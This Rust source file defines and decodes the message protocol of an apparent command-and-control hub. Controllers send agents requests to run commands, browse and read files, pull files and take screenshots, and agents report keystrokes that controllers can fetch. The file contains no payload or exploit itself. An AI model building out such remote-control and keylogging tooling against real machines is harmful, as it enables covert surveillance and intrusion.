//! Inbound message types.
//!
//! Frames flow from controllers and agents into the hub. The `type` field picks the
//! handler; everything else is type-specific and optional at the wire level, so
//! handlers can reply with a precise error instead of a generic decode failure.

use std::fmt;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use thiserror::Error;

// ============================================================================
// Message kinds
// ============================================================================

/// Every inbound `type` the hub understands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MessageKind {
    AgentAuth,
    Cmd,
    CmdResponse,
    Fs,
    FsResponse,
    Readfile,
    ReadfileResponse,
    GetFile,
    GetFileResponse,
    Keylogger,
    GetKeys,
    IsConnected,
    Screenshot,
    Command,
    Status,
    Data,
}

impl MessageKind {
    pub const ALL: [MessageKind; 16] = [
        MessageKind::AgentAuth,
        MessageKind::Cmd,
        MessageKind::CmdResponse,
        MessageKind::Fs,
        MessageKind::FsResponse,
        MessageKind::Readfile,
        MessageKind::ReadfileResponse,
        MessageKind::GetFile,
        MessageKind::GetFileResponse,
        MessageKind::Keylogger,
        MessageKind::GetKeys,
        MessageKind::IsConnected,
        MessageKind::Screenshot,
        MessageKind::Command,
        MessageKind::Status,
        MessageKind::Data,
    ];

    /// The wire name of this kind.
    pub fn as_str(self) -> &'static str {
        match self {
            MessageKind::AgentAuth => "agent-auth",
            MessageKind::Cmd => "cmd",
            MessageKind::CmdResponse => "cmd_response",
            MessageKind::Fs => "fs",
            MessageKind::FsResponse => "fs_response",
            MessageKind::Readfile => "readfile",
            MessageKind::ReadfileResponse => "readfile_response",
            MessageKind::GetFile => "get_file",
            MessageKind::GetFileResponse => "get_file_response",
            MessageKind::Keylogger => "keylogger",
            MessageKind::GetKeys => "get_keys",
            MessageKind::IsConnected => "is_connected",
            MessageKind::Screenshot => "screenshot",
            MessageKind::Command => "command",
            MessageKind::Status => "status",
            MessageKind::Data => "data",
        }
    }

    /// Look up a kind by its wire name.
    pub fn parse(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|kind| kind.as_str() == name)
    }
}

impl fmt::Display for MessageKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

// ============================================================================
// Payloads
// ============================================================================

/// `agent-auth`: an agent announcing its identifier in `data`.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AgentAuth {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub data: Option<String>,
}

/// A controller request that is forwarded to an agent (`cmd`, `fs`, `readfile`,
/// `get_file`, `screenshot`).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ForwardRequest {
    /// Target agent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub agent: Option<String>,
    /// Command line, path, or other request argument.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub data: Option<Value>,
}

/// An agent's answer to a forwarded request.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AgentResponse {
    /// Correlation id handed to the agent with the request. Kept as raw JSON so a
    /// numeric or otherwise re-encoded id still resolves.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub request_id: Option<Value>,
    #[serde(default)]
    pub data: Value,
}

impl AgentResponse {
    /// The text under which the correlated request was stored.
    ///
    /// Strings are used verbatim, other values by their JSON text. Null and empty
    /// ids have no key.
    pub fn request_key(&self) -> Option<String> {
        match self.request_id.as_ref()? {
            Value::Null => None,
            Value::String(id) if id.is_empty() => None,
            Value::String(id) => Some(id.clone()),
            other => Some(other.to_string()),
        }
    }
}

/// `keylogger`: keystrokes reported by the sending agent about itself.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct KeylogReport {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub data: Option<String>,
}

/// `get_keys` / `is_connected`: a question about one agent.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AgentQuery {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub agent: Option<String>,
}

/// `command`: acknowledged, never routed.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CommandNotice {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<Value>,
}

/// `status`: acknowledged, never routed.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct StatusNotice {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub status: Option<Value>,
}

/// `data`: acknowledged, never routed.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct DataNotice {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub payload: Option<Value>,
}

// ============================================================================
// Inbound envelope
// ============================================================================

/// A decoded inbound frame, tagged by `type`.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "type")]
pub enum InboundMessage {
    #[serde(rename = "agent-auth")]
    AgentAuth(AgentAuth),
    #[serde(rename = "cmd")]
    Cmd(ForwardRequest),
    #[serde(rename = "cmd_response")]
    CmdResponse(AgentResponse),
    #[serde(rename = "fs")]
    Fs(ForwardRequest),
    #[serde(rename = "fs_response")]
    FsResponse(AgentResponse),
    #[serde(rename = "readfile")]
    Readfile(ForwardRequest),
    #[serde(rename = "readfile_response")]
    ReadfileResponse(AgentResponse),
    #[serde(rename = "get_file")]
    GetFile(ForwardRequest),
    #[serde(rename = "get_file_response")]
    GetFileResponse(AgentResponse),
    #[serde(rename = "keylogger")]
    Keylogger(KeylogReport),
    #[serde(rename = "get_keys")]
    GetKeys(AgentQuery),
    #[serde(rename = "is_connected")]
    IsConnected(AgentQuery),
    #[serde(rename = "screenshot")]
    Screenshot(ForwardRequest),
    #[serde(rename = "command")]
    Command(CommandNotice),
    #[serde(rename = "status")]
    Status(StatusNotice),
    #[serde(rename = "data")]
    Data(DataNotice),
}

impl InboundMessage {
    pub fn kind(&self) -> MessageKind {
        match self {
            InboundMessage::AgentAuth(_) => MessageKind::AgentAuth,
            InboundMessage::Cmd(_) => MessageKind::Cmd,
            InboundMessage::CmdResponse(_) => MessageKind::CmdResponse,
            InboundMessage::Fs(_) => MessageKind::Fs,
            InboundMessage::FsResponse(_) => MessageKind::FsResponse,
            InboundMessage::Readfile(_) => MessageKind::Readfile,
            InboundMessage::ReadfileResponse(_) => MessageKind::ReadfileResponse,
            InboundMessage::GetFile(_) => MessageKind::GetFile,
            InboundMessage::GetFileResponse(_) => MessageKind::GetFileResponse,
            InboundMessage::Keylogger(_) => MessageKind::Keylogger,
            InboundMessage::GetKeys(_) => MessageKind::GetKeys,
            InboundMessage::IsConnected(_) => MessageKind::IsConnected,
            InboundMessage::Screenshot(_) => MessageKind::Screenshot,
            InboundMessage::Command(_) => MessageKind::Command,
            InboundMessage::Status(_) => MessageKind::Status,
            InboundMessage::Data(_) => MessageKind::Data,
        }
    }
}

// ============================================================================
// Decoding
// ============================================================================

/// Result of decoding a well-formed frame.
#[derive(Debug, Clone)]
pub enum Decoded {
    Message(InboundMessage),
    /// The frame's `type` is missing, not a string, or not a known kind.
    Unknown(Option<String>),
}

/// A frame that could not be decoded at all.
#[derive(Debug, Error)]
pub enum DecodeError {
    #[error("{0}")]
    Json(#[from] serde_json::Error),

    #[error("expected a JSON object")]
    NotAnObject,
}

/// Decode one text frame.
pub fn decode(raw: &str) -> Result<Decoded, DecodeError> {
    let value: Value = serde_json::from_str(raw)?;
    let Value::Object(fields) = &value else {
        return Err(DecodeError::NotAnObject);
    };

    let type_name = fields.get("type").and_then(Value::as_str);
    match type_name.and_then(MessageKind::parse) {
        Some(_) => Ok(Decoded::Message(serde_json::from_value(value)?)),
        None => Ok(Decoded::Unknown(type_name.map(str::to_string))),
    }
}
